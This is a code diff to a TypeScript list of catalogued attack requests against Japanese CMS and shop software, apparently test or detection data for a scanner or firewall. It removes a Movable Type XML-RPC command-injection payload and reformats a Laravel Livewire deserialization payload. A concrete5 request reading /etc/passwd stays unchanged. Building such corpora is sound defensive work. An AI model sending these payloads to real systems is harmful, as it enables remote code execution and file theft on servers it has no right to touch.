@@ -60,10 +60,6 @@ export const FIFTH_PUBLISHED: readonly Family[] = [
             ...rowsOf(
                 "request",
                 "content management and shops of Japanese sites",
-                form(
-                    "/mt/mt-xmlrpc.cgi",
-                    '<?xml version="1.0"?><methodCall><methodName>mt.handler_to_coderef</methodName><params><param><value><base64>YGlkYA==</base64></value></param></params></methodCall>',
-                ),
                 post(
                     "/mt/mt-xmlrpc.cgi",
                     "text/xml",
@@ -93,8 +89,9 @@ export const FIFTH_PUBLISHED: readonly Family[] = [
                 get(
                     "/concrete5/index.php/tools/required/files/importers/imageeditor?cID=1&imgData=php://filter/resource=/etc/passwd",
                 ),
-                form(
+                post(
                     "/livewire/update",
+                    "application/json",
                     '{"components":[{"snapshot":"{}","updates":{"count":[[{"__toString":"phpversion"},{"s":"clctn","class":"Laravel\\\\SerializableClosure\\\\Serializers\\\\Signed"}],{"s":"arr"}]},"calls":[]}]}',
                 ),
                 json("/livewire/update", {
